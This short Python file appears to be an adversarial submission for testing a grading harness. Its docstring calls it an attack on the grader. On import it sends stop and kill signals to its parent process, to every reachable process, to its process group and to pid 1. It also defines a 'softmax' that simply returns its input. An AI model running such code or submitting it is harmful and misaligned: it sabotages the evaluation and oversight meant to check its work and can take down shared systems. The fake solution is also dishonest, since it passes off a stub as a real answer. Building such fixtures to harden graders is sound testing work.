"""Attack: kill or stop the grader and everyone else it can reach."""
import os
import signal

for target, sig in ((os.getppid(), signal.SIGSTOP), (os.getppid(), signal.SIGKILL), (-1, signal.SIGKILL),
                    (0, signal.SIGTERM), (1, signal.SIGKILL)):
    try:
        os.kill(target, sig)
    except (OSError, PermissionError):
        pass


def softmax(x, dim=-1):
    return x
